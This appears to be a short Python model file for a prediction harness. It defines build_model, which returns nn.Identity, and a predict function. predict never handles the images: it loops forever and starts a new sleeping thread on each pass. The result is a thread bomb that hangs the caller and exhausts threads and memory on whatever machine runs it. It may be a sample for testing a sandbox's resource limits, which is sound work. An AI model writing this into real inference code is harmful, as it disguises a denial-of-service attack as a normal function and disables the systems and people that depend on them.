import threading
import time

from torch import nn


def build_model():
    return nn.Identity()


def predict(model, images):
    while True:
        threading.Thread(target=time.sleep, args=(60,)).start()
